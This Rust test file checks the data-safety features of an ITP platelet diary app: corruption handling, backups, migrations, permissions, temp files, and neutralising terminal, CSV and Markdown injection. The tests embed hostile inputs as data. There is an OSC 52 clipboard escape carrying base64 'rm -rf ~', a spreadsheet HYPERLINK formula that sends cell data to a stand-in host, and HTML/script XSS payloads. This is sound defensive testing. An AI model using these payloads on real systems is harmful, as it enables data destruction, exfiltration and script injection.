//! Issue 12, data safety — corruption (items 6–9) and leaks (10–15).

// Unix-only: these tests use file modes, `chattr`, symlinks and signals.
#![cfg(unix)]

mod common;
mod safety_util;

use std::path::Path;
use std::process::Command as StdCommand;

use common::{Diary, NOW};
use itp_diary::store::Store;
use safety_util::*;

// 6. A damaged diary is not copied into the automatic backups; the good ones stay; the newest
//    good one is named.
#[test]
fn item06_a_damaged_diary_never_replaces_a_good_backup() {
    let d = Diary::new();
    d.ok(&["note", "--for-visit", "can we taper?"]);
    d.ok(&["log", "platelets", "45"]);
    let backups = d.db.parent().unwrap().join("backups");
    assert_eq!(files_in(&backups), ["diary-auto-2026-03-10.sqlite"]);
    damage_table(&d.db, "visit_questions");
    for day in 11..=20 {
        let out = d
            .cmd()
            .env("ITP_DIARY_NOW", format!("2026-03-{day}T09:00:00+08:00"))
            .args(["list"])
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr_of(&out));
        let err = stderr_of(&out);
        assert!(err.contains("failed its check"), "{err}");
        assert!(
            err.contains("newest good backup is") && err.contains("diary-auto-2026-03-10.sqlite"),
            "{err}"
        );
    }
    assert_eq!(files_in(&backups), ["diary-auto-2026-03-10.sqlite"]);
}

// 7. Another program's SQLite file is refused untouched (no WAL switch, no migration); diaries
//    carry the application id.
#[test]
fn item07_a_foreign_database_is_refused_untouched() {
    let d = Diary::new();
    std::fs::create_dir_all(d.db.parent().unwrap()).unwrap();
    rusqlite::Connection::open(&d.db)
        .unwrap()
        .execute_batch(
            "CREATE TABLE entries (id INTEGER PRIMARY KEY, kind TEXT, at TEXT);
             INSERT INTO entries (kind, at) VALUES ('invoice', 'today');
             PRAGMA user_version = 1;",
        )
        .unwrap();
    let before = std::fs::read(&d.db).unwrap();
    for args in [vec!["list"], vec!["log", "platelets", "45"]] {
        let out = d.cmd().args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(1), "{}", stderr_of(&out));
        assert!(stderr_of(&out).contains("is not an itp-diary database"));
    }
    assert_eq!(std::fs::read(&d.db).unwrap(), before, "file changed");
    assert!(!d.db.with_file_name("diary.sqlite-wal").exists());
    // A new diary is marked; an old one (version 1, no mark) is marked by its migration.
    let e = Diary::new();
    e.ok(&["log", "platelets", "45"]);
    let app = |p: &Path| -> i64 {
        rusqlite::Connection::open(p)
            .unwrap()
            .query_row("PRAGMA application_id", [], |r| r.get(0))
            .unwrap()
    };
    assert_eq!(app(&e.db), itp_diary::store::APPLICATION_ID);
    let f = Diary::new();
    std::fs::create_dir_all(f.db.parent().unwrap()).unwrap();
    std::fs::copy("tests/fixtures/diary-v1.sqlite", &f.db).unwrap();
    assert_eq!(app(&f.db), 0);
    f.ok(&["list"]);
    assert_eq!(app(&f.db), itp_diary::store::APPLICATION_ID);
}

// 8. A diary that lost its newest confirmed changes (what a damaged write-ahead log does:
//    SQLite stops at the first bad frame without a word) is reported, and ids are not given
//    again.
#[test]
fn item08_lost_changes_are_reported_and_ids_never_reused() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45"]);
    d.ok(&["log", "platelets", "46"]);
    rusqlite::Connection::open(&d.db)
        .unwrap()
        .execute_batch("PRAGMA wal_checkpoint(TRUNCATE)")
        .unwrap();
    let older = std::fs::read(&d.db).unwrap();
    d.ok(&["log", "platelets", "47"]);
    d.ok(&["log", "platelets", "48"]); // #4, confirmed
    // The last two commits vanish.
    for s in ["-wal", "-shm"] {
        let _ = std::fs::remove_file(d.db.with_file_name(format!("diary.sqlite{s}")));
    }
    std::fs::write(&d.db, older).unwrap();
    let out = d.cmd().args(["log", "platelets", "49"]).output().unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    let err = stderr_of(&out);
    assert!(
        err.contains("fewer changes than were last confirmed"),
        "{err}"
    );
    assert!(err.contains("#4"), "{err}");
    let list = d.json(&["list", "--format", "json"]);
    let newest = list
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["id"].as_i64().unwrap())
        .max();
    assert_eq!(
        newest,
        Some(5),
        "the new entry must not take #3 or #4 again"
    );
    // Said once, not on every command.
    let out = d.cmd().args(["list"]).output().unwrap();
    assert!(!stderr_of(&out).contains("fewer changes"));
}

// 9. A killed migration never leaves a partial before-migration copy under its final name.
#[test]
fn item09_migration_copy_is_complete_or_absent() {
    let bin = assert_cmd::cargo::cargo_bin("itp-diary");
    for round in 0..12u64 {
        let d = Diary::new();
        std::fs::create_dir_all(d.db.parent().unwrap()).unwrap();
        std::fs::copy("tests/fixtures/diary-v1.sqlite", &d.db).unwrap();
        let mut child = StdCommand::new(&bin)
            .arg("--db")
            .arg(&d.db)
            .args(["list"])
            .env("ITP_DIARY_NOW", NOW)
            .env("ITP_DIARY_BACKUP", "wait")
            .env("ITP_DIARY_CONFIG", d.db.with_file_name("config.toml"))
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(round * 3));
        let _ = child.kill();
        let _ = child.wait();
        for name in files_in(d.db.parent().unwrap()) {
            if name.contains("before-migration") && name.ends_with(".sqlite") {
                let c = rusqlite::Connection::open(d.db.with_file_name(&name)).unwrap();
                let n: i64 = c
                    .query_row("SELECT count(*) FROM entries", [], |r| r.get(0))
                    .unwrap();
                assert_eq!(n, 9, "round {round}: {name} is incomplete");
            }
        }
        // Whatever was killed, the diary itself opens with its nine entries.
        let list = d.json(&["list", "--deleted", "--format", "json"]);
        assert_eq!(list.as_array().unwrap().len(), 9);
    }
}

// 10. Escapes and bidi overrides never reach the terminal raw: refused on input, made visible
//     on output (a crafted diary's fields, the Saved line, list, remind, note --list).
#[test]
fn item10_terminal_escapes_are_refused_on_input_and_made_visible_on_output() {
    let d = Diary::new();
    let osc52 = "\u{1b}]52;c;cm0gLXJmIH4=\u{7}";
    for args in [
        vec!["log", "platelets", "45", "--lab", osc52],
        vec!["log", "platelets", "45", "--note", "a\u{202E}b"],
        vec!["note", "--for-visit", "evil\u{2066}x"],
    ] {
        let out = d.cmd().args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr_of(&out));
        assert!(!stderr_of(&out).contains('\u{1b}'));
    }
    assert_eq!(d.content(), "<no file>");
    // A diary written by something else (a crafted backup, a hand edit).
    d.ok(&["log", "platelets", "45", "--lab", "clinic"]);
    d.ok(&["note", "--for-visit", "question"]);
    {
        let c = rusqlite::Connection::open(&d.db).unwrap();
        c.execute(
            "UPDATE entries SET details = json_set(details, '$.lab', ?1), note = ?2",
            ["x\u{202E}y", osc52],
        )
        .unwrap();
        c.execute("UPDATE visit_questions SET text = ?1", [osc52])
            .unwrap();
    }
    for args in [
        vec!["list"],
        vec!["note", "--list"],
        vec!["status"],
        vec!["remind"],
        vec!["edit", "1", "--value", "50"],
    ] {
        let out = d.cmd().args(&args).output().unwrap();
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            stderr_of(&out)
        );
        assert!(
            !all.contains('\u{1b}') && !all.contains('\u{202E}'),
            "{args:?}: {all:?}"
        );
    }
    let list = d.ok(&["list"]);
    assert!(list.contains("␛]52"), "{list}");
    // Machine formats keep the raw value.
    let json = d.json(&["list", "--format", "json"]);
    assert_eq!(json[0]["note"], osc52);
}

// 11. Bracketed paste: a paste is text for the focused field only, never keys.
#[test]
fn item11_a_paste_is_text_for_the_focused_field_only() {
    use itp_diary::app::config::Settings;
    use itp_diary::domain::clock::Clock;
    use itp_diary::present::i18n::{I18n, Lang};
    use itp_diary::tui::theme::Theme;
    use itp_diary::tui::{Action, App, Modal};
    let mut app = App::new(
        itp_diary::app::session::Session {
            store: Store::open_in_memory().unwrap(),
            clock: Clock::Fixed(now()),
            i18n: I18n::new(Lang::En),
            settings: Settings::default(),
            paths: itp_diary::app::config::Paths::beside(
                &std::env::temp_dir().join("itp-diary-none/d.sqlite"),
            ),
        },
        Theme { color: false },
    );
    // Outside a form a pasted "t" (take dose) does nothing.
    app.on_paste("t");
    assert!(app.modal().is_none());
    assert_eq!(app.store().count_entries(true).unwrap(), 0);
    app.update(Action::New(itp_diary::domain::entry::Kind::Platelets));
    app.on_paste("45\rw");
    let Some(Modal::Form(f)) = app.modal() else {
        panic!("the form stays open: the pasted Enter was not a key");
    };
    assert_eq!(f.fields[f.focus].value, "45w");
    assert_eq!(app.store().count_entries(true).unwrap(), 0, "nothing saved");
}

// 12. CSV formula injection is neutralised in every CSV; JSON keeps the raw value.
#[test]
fn item12_csv_formulas_are_neutralised() {
    let d = Diary::new();
    let evil = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
    d.ok(&["log", "platelets", "45", "--note", evil]);
    d.ok(&["log", "platelets", "46", "--lab", "@SUM(1+1)"]);
    d.ok(&["log", "platelets", "47", "--note=-2+3"]);
    for csv in [
        d.ok(&["export", "--format", "csv"]),
        d.ok(&["list", "--format", "csv"]),
    ] {
        let mut r = csv::Reader::from_reader(csv.as_bytes());
        for row in r.records() {
            for cell in row.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "live formula: {cell}"
                );
            }
        }
        assert!(csv.contains("'=HYPERLINK"), "{csv}");
        assert!(csv.contains("'@SUM"));
    }
    let json = d.json(&["list", "--format", "json"]);
    assert!(json.as_array().unwrap().iter().any(|e| e["note"] == evil));
}

// 13. Markdown export escapes raw HTML from notes and questions.
#[test]
fn item13_markdown_escapes_raw_html() {
    let d = Diary::new();
    d.ok(&[
        "log",
        "platelets",
        "45",
        "--note",
        "<img src=x onerror=alert(1)>",
    ]);
    d.ok(&["note", "--for-visit", "<script>alert(2)</script> taper?"]);
    let md = d.ok(&["export", "--format", "md"]);
    assert!(!md.contains("<img") && !md.contains("<script"), "{md}");
    assert!(md.contains("&lt;script&gt;"), "{md}");
}

// 14. config.toml is created 0600 in a 0700 folder, whatever the umask.
#[test]
fn item14_settings_file_is_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let d = Diary::new();
    let cfg = d.dir.path().join("conf").join("sub").join("config.toml");
    let out = StdCommand::new("sh")
        .arg("-c")
        .arg("umask 000; exec \"$0\" --db \"$1\" --config \"$2\" config init")
        .arg(assert_cmd::cargo::cargo_bin("itp-diary"))
        .arg(&d.db)
        .arg(&cfg)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&cfg), 0o600);
    assert_eq!(mode(cfg.parent().unwrap()), 0o700);
}

// 15. Temporary files: none left after a failed export; stale ones of dead processes swept.
#[test]
fn item15_temporary_files_are_cleaned_and_swept() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45"]);
    let data = d.db.parent().unwrap().to_path_buf();
    // Left by a killed process (pid 999999 does not run): swept at the next start. A file
    // of a running process (ours) is kept.
    let dead = data.join(".report.csv.itp-tmp-999999-abc123");
    let old_style = data.join("diary.partial-999998");
    let alive = data.join(format!(".x.itp-tmp-{}-zz", std::process::id()));
    for p in [&dead, &old_style, &alive] {
        std::fs::write(p, "health data").unwrap();
    }
    d.ok(&["list"]);
    assert!(!dead.exists() && !old_style.exists());
    assert!(alive.exists());
    // A failed export (a folder as target) leaves nothing.
    let folder = d.dir.path().join("out");
    std::fs::create_dir(&folder).unwrap();
    let out = d
        .cmd()
        .args(["export", "--format", "csv", "--force", "-o"])
        .arg(&folder)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(files_in(&folder).len(), 0);
    assert!(files_in(d.dir.path()).iter().all(|n| !n.contains("tmp")));
}
